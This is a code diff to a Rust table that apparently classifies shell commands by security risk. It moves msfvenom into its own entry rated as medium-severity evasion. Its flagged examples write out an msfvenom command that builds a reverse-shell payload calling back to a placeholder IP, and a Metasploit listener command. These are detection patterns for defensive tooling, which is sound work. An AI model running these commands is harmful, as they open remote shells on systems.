@@ -445,17 +445,26 @@ pub const SECURITY: &[Program] = &[
         ..P
     },
     Program {
-        names: &["msfconsole", "msfvenom", "msfdb", "msfrpcd"],
-        source: "https://docs.metasploit.com/ (exploitation framework, payload generator)",
+        names: &["msfconsole", "msfdb", "msfrpcd"],
+        source: "https://docs.metasploit.com/ (exploitation framework: exploits, listeners, sessions)",
         subs: &[always(
             SelfEscalation,
             Critical,
             "runs the Metasploit exploitation framework",
         )],
-        flagged: &[
-            "msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.5 LPORT=4444 -f elf -o x",
-            "msfconsole -q -x 'use exploit/multi/handler'",
-        ],
+        flagged: &["msfconsole -q -x 'use exploit/multi/handler'"],
+        ..P
+    },
+    Program {
+        names: &["msfvenom"],
+        source: "https://docs.metasploit.com/docs/using-metasploit/basics/how-to-use-msfvenom.html (writes a payload: it runs nothing itself, but a reverse shell or implant is one step from running)",
+        subs: &[always(
+            Evasion,
+            Medium,
+            "generates an exploit payload (a reverse shell or an implant)",
+        )],
+        flagged: &["msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.5 LPORT=4444 -f elf -o x"],
+        clean: &["msfvenom --list payloads"],
         ..P
     },
     Program {
